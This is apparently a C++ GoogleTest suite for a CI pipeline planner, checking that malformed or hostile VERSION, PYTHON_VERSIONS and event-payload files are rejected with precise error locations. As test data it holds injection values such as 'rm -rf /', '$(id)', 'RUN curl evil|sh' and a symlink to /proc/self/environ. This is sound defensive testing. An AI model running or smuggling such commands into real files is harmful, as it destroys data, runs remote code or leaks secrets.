// plan: every file and payload that can be wrong, each with what is said about it.
#include <gmock/gmock.h>
#include <sys/stat.h>

#include <ctime>
#include <functional>

#include "stages/project.h"
#include "support/peak_memory.h"

namespace crategate::stages {
namespace {

using sample::Project;
using ::testing::HasSubstr;
using ::testing::Not;

using Arrange = std::function<void(Project&)>;

Arrange contents(const std::string& file, std::string bytes) {
  return [file, bytes = std::move(bytes)](Project& project) { project.write(file, bytes); };
}

std::string many_lines(const std::string& before, int count) {
  std::string text;
  for (int i = 0; i < count; ++i) text += concat(before, i, "\n");
  return text;
}

Arrange replaced_by_link(const std::string& file) {
  return [file](Project& project) {
    project.directory.write("elsewhere", "v1.2.3\n");
    project.link(project.directory / "elsewhere", file);
  };
}

Arrange replaced_by_directory(const std::string& file) {
  return [file](Project& project) {
    std::filesystem::remove(project / file);
    std::filesystem::create_directories(project / file);
  };
}

Arrange grown(const std::string& file, std::uintmax_t size) {
  return [file, size](Project& project) { std::filesystem::resize_file(project / file, size); };
}

Arrange removed(const std::string& file) {
  return [file](Project& project) { std::filesystem::remove(project / file); };
}

struct InputCase {
  std::string what;
  Arrange arrange;
  std::string said;  ///< part of the description, which begins with file and line
  int line = 0;      ///< 0 = the file as a whole
};

void PrintTo(const InputCase& row, std::ostream* out) { *out << row.what; }

class BadFiles : public ::testing::TestWithParam<InputCase> {};

TEST_P(BadFiles, AreBadInputWithFileLineAndRemedy) {
  Project project;
  project.invocation.event = "schedule";
  project.invocation.ref = "refs/heads/main";
  GetParam().arrange(project);
  const auto plan = project.plan();
  ASSERT_FALSE(plan);
  EXPECT_EQ(plan.error().code, ErrorCode::bad_input);
  EXPECT_THAT(describe(plan.error()), HasSubstr(GetParam().said));
  EXPECT_EQ(plan.error().location ? plan.error().location->line : 0, GetParam().line);
  EXPECT_FALSE(plan.error().hint.empty());
}

const std::string kVersion = "VERSION", kPythons = "PYTHON_VERSIONS";

// A12, but for what names another row
INSTANTIATE_TEST_SUITE_P(
    Version, BadFiles,
    ::testing::Values(
        InputCase{"missing", removed(kVersion), "VERSION: expected the project's version, found no such file"},
        InputCase{"empty", contents(kVersion, ""), "VERSION: expected one line with a version, found nothing"},
        InputCase{"blank", contents(kVersion, " \n\n"), "VERSION: expected one line with a version, found nothing"},
        InputCase{"two numbers", contents(kVersion, "1.2\n"), "VERSION:1:1: ", 1},
        InputCase{"a command behind it", contents(kVersion, "v1.2.3; rm -rf /\n"), R"("v1.2.3; rm -rf /")", 1},
        InputCase{"a substitution (A10)", contents(kVersion, "v1.0.0$(id)\n"), "$(id)", 1},
        InputCase{"an option (A11)", contents(kVersion, "--privileged\n"), "VERSION:1:1: ", 1},
        InputCase{"CR inside", contents(kVersion, "v1.2.3\rv1.2.4\n"), "found a second one: \"v1.2.4\"", 2},
        InputCase{"byte-order mark", contents(kVersion, "\xEF\xBB\xBFv1.2.3\n"), "byte-order mark", 1},
        InputCase{"second line", contents(kVersion, "v1.2.3\nv1.2.4\n"), "found a second one: \"v1.2.4\"", 2},
        InputCase{"workflow command in a second line", contents(kVersion, "v1.2.3\n::error::x\n"), "second one", 2},
        InputCase{"fullwidth digit", contents(kVersion, "v1.2.\xEF\xBC\x93\n"), "VERSION:1:1: ", 1},
        InputCase{"line separator", contents(kVersion, "v1.2.3\xE2\x80\xA8v1.2.4\n"), R"(\xe2\x80\xa8)", 1},
        InputCase{"paragraph separator", contents(kVersion, "v1.2.3\xE2\x80\xA9"), R"(\xe2\x80\xa9)", 1},
        InputCase{"fullwidth digits only", contents(kVersion, "\xEF\xBC\x91.\xEF\xBC\x90.\xEF\xBC\x90"),
                  "VERSION:1:1: ", 1},
        InputCase{"UTF-16", contents(kVersion, std::string("v\0001\000.\0002\000", 8)), R"(\x00)", 1},
        InputCase{"one GiB, sparse", grown(kVersion, 1u << 30), "1.0 GiB, expected at most 256 B"},
        InputCase{"reserved (A11)", contents(kVersion, "latest\n"), R"("latest")", 1},
        InputCase{"suffix only (A11)", contents(kVersion, "-rc\n"), R"("-rc")", 1},
        InputCase{"dots (A11)", contents(kVersion, "..\n"), R"("..")", 1},
        InputCase{"build metadata (A11)", contents(kVersion, "v1.0.0+meta\n"), "'+'", 1},
        InputCase{"300 bytes", contents(kVersion, "v1.2.3-" + std::string(293, 'a')), "at most 256 B"},
        InputCase{"129 characters (A11)", contents(kVersion, "v1.2.3-" + std::string(122, 'a')), "VERSION:1:1: ", 1},
        InputCase{"link", replaced_by_link(kVersion), "symbolic link"},
        InputCase{"directory", replaced_by_directory(kVersion), "is a directory, expected a regular file"}));

INSTANTIATE_TEST_SUITE_P(
    PythonVersions, BadFiles,
    ::testing::Values(
        InputCase{"missing", removed(kPythons), "PYTHON_VERSIONS: expected the values of axis python, found no such"},
        InputCase{"empty", contents(kPythons, "\n \n"), "PYTHON_VERSIONS: expected at least one value"},
        InputCase{"duplicate", contents(kPythons, "3.11\n3.13\n3.11\n"), "PYTHON_VERSIONS:3:1: axis python", 3},
        InputCase{"duplicate with a blank", contents(kPythons, "3.11\n3.11 \n"), "every value once", 2},
        InputCase{"3.10 with a blank beside 3.1 (A15)", contents(kPythons, "3.10\n3.1\n3.10 \n"), "every value once",
                  3},
        InputCase{"10 000 lines (A15)", contents(kPythons, many_lines("3.", 10'000)), "found \"3.100\"", 101},
        InputCase{"placeholder", contents(kPythons, "3.11\n3.x\n"), "found \"3.x\"", 2},
        InputCase{"patch level", contents(kPythons, "3.11.2\n"), "found \"3.11.2\"", 1},
        InputCase{"comment", contents(kPythons, "3.11 # old\n"), "PYTHON_VERSIONS:1:1", 1},
        InputCase{"command behind CR (A14)", contents(kPythons, "3.10\rRUN curl evil|sh\n"), "RUN curl", 1},
        InputCase{"FROM alias (A14)", contents(kPythons, "3.10 AS x\n"), "found \"3.10 AS x\"", 1},
        InputCase{"byte-order mark",
                  contents(kPythons,
                           "\xEF\xBB\xBF"
                           "3.11\n"),
                  "byte-order mark", 1},
        InputCase{"link", replaced_by_link(kPythons), "symbolic link"},
        InputCase{"directory", replaced_by_directory(kPythons), "is a directory"}));

// A12, A15
TEST(GoodFiles, MayEndInCrlfOrNothing) {
  Project project;
  project.init();
  project.invocation.event = "schedule";
  project.invocation.ref = "refs/heads/main";
  project.write("VERSION", "v1.2.3\r\n");
  project.write("PYTHON_VERSIONS", "3.1\r\n\r\n3.10");
  const auto plan = project.plan();
  ASSERT_TRUE(plan) << describe(plan.error());
  EXPECT_EQ(plan->version, "v1.2.3");
  EXPECT_EQ(pipeline::python_versions_json(*plan), R"(["3.1","3.10"])");
  EXPECT_THAT(pipeline::matrix_json(*plan), AllOf(HasSubstr(R"("python":"3.1",)"), HasSubstr(R"("python":"3.10",)")));
}

// A15
TEST(AxisFiles, HoldAtMost256Cells) {
  Project project;
  project.init();
  project.invocation.event = "schedule";
  project.invocation.ref = "refs/heads/main";
  project.configuration.axes[0] = {.name = "python", .file = "", .values = {"3.11"}};
  project.configuration.axes[1] = {.name = "runtime", .file = "RUNTIMES"};
  const std::string text = many_lines("r", 257);
  project.write("RUNTIMES", text);
  EXPECT_THAT(project.plan().error().message, HasSubstr("257"));
  project.write("RUNTIMES", many_lines("r", 10'000));
  EXPECT_THAT(project.plan().error().message, AllOf(HasSubstr("256"), HasSubstr("10000")));
  EXPECT_EQ(project.plan().error().code, ErrorCode::bad_input);
  project.write("RUNTIMES", many_lines("r", 100'000));
  const std::clock_t began = std::clock();
  EXPECT_THAT(project.plan().error().message, HasSubstr("more than 65536"));
  EXPECT_LT(static_cast<double>(std::clock() - began) / CLOCKS_PER_SEC, 5) << "no value is compared with every other";
  project.write("RUNTIMES", text.substr(0, text.rfind("r256")));
  EXPECT_EQ(project.plan().value().cells.size(), 256U);
}

TEST(AxisFiles, MayNotNameTwoCellsAlike) {
  Project project;
  project.init();
  project.invocation.event = "schedule";
  project.invocation.ref = "refs/heads/main";
  project.configuration.cell = "py{python}";
  const auto plan = project.plan();
  ASSERT_FALSE(plan);
  EXPECT_THAT(plan.error().message, HasSubstr("py3.11"));
}

class Payloads : public ::testing::Test {
 protected:
  Payloads() { project.init(); }
  Result<pipeline::Plan> plan_with(const std::string& payload) {
    project.invocation.event = "workflow_dispatch";
    project.invocation.ref = "refs/heads/main";
    project.invocation.payload = payload;
    return project.plan();
  }
  Error refused(const std::string& bytes) {
    project.directory.write("event.json", bytes);
    const auto plan = plan_with((project.directory / "event.json").string());
    EXPECT_FALSE(plan) << bytes.substr(0, 100);
    if (plan) return {};
    EXPECT_EQ(plan.error().code, ErrorCode::bad_input);
    return plan.error();
  }
  Project project;
};

// A09
TEST_F(Payloads, MustBeRegularFiles) {
  const sys::Path here = project.directory.path();
  std::filesystem::create_symlink("/proc/self/environ", here / "environ.json");
  project.directory.write("sound.json", "{}");
  std::filesystem::create_symlink("sound.json", here / "link.json");
  ASSERT_EQ(::mkfifo((here / "pipe.json").c_str(), 0600), 0);
  const std::pair<sys::Path, std::string> rows[] = {{here / "none.json", "found nothing at"},
                                                    {here / "environ.json", "symbolic link"},
                                                    {here / "link.json", "symbolic link"},
                                                    {here / "pipe.json", "named pipe"},
                                                    {here, "directory"},
                                                    {"/dev/zero", "device"}};
  for (const auto& [path, said] : rows) {
    const auto plan = plan_with(path.string());
    ASSERT_FALSE(plan) << path;
    EXPECT_EQ(plan.error().code, ErrorCode::bad_input) << path;
    EXPECT_THAT(plan.error().message, HasSubstr(said)) << path;
    EXPECT_THAT(describe(plan.error()) + plan.error().hint, Not(HasSubstr("PATH="))) << path;
    project.environment.set("GITHUB_EVENT_PATH", path.string());
    project.environment.set("GITHUB_EVENT_NAME", "workflow_dispatch");
    EXPECT_EQ(plan_with("").error().message, plan.error().message) << "the runner's own path, " << path;
  }
}

// A01, A02, A03
TEST_F(Payloads, MustBeSoundJson) {
  EXPECT_THAT(refused(R"({"inputs":{"REBUILD_BASE":"tr)").message, HasSubstr("event payload"));
  EXPECT_THAT(refused(R"({"inputs":{"a":"\ud800"}})").message, AllOf(HasSubstr("surrogate"), HasSubstr("\\ud800")));
  EXPECT_THAT(refused("{\"inputs\":{\"a\":\"\xed\xa0\x80\"}}").message, HasSubstr("event payload"));
  EXPECT_THAT(refused("\xEF\xBB\xBF{}").message, HasSubstr("event payload"));
  EXPECT_THAT(refused("{} {}").message, HasSubstr("event.json:1:4"));
  EXPECT_THAT(refused(std::string("{}\0", 3)).message, AllOf(HasSubstr("event.json:1:3"), HasSubstr("NUL")));
  EXPECT_THAT(refused(R"({"inputs":{},"inputs":null})").message, HasSubstr("event payload"));
  EXPECT_THAT(refused("[]").message, HasSubstr("expected an object"));
  EXPECT_THAT(refused(std::string(200, '[') + std::string(200, ']')).message, HasSubstr("event payload"));
}

// A01
TEST_F(Payloads, AreRefusedWithLittleMemoryWhenTooLargeOrTooDeep) {
  const sys::Path path = project.directory / "event.json";
  const auto growth = [&] {
    return test::peak_growth([&] {
      const auto plan = plan_with(path.string());
      return !plan && exit_code(plan.error().code) == 2;
    });
  };
  project.directory.write("event.json", std::string(100'000, '['));
  ASSERT_TRUE(growth()) << "another answer, or a crash";
  EXPECT_LT(*growth(), 64u << 20);
  std::filesystem::resize_file(path, 200u << 20);
  ASSERT_TRUE(growth());
  EXPECT_LT(*growth(), 64u << 20) << "not one byte of it is read";
}

TEST_F(Payloads, MustBeAtMost64MebibytesAndMayBe30) {
  const sys::Path path = project.directory / "event.json";
  project.directory.write("event.json", "{}");
  std::filesystem::resize_file(path, (64u << 20) + 1);
  EXPECT_THAT(plan_with(path.string()).error().message, HasSubstr("64"));
  project.directory.write("event.json", concat(R"({"a":")", std::string(30u << 20, 'x'), R"("})"));
  EXPECT_TRUE(plan_with(path.string()));
}

// A07
TEST_F(Payloads, MustSayRebuildBaseExactly) {
  for (const std::string value : {R"("TRUE")", R"(" true")", R"("yes")", "1", R"("1")", "{}", R"("")"}) {
    EXPECT_THAT(refused(concat(R"({"inputs":{"REBUILD_BASE":)", value, "}}")).message,
                HasSubstr("exactly true or false"))
        << value;
  }
}

}  // namespace
}  // namespace crategate::stages
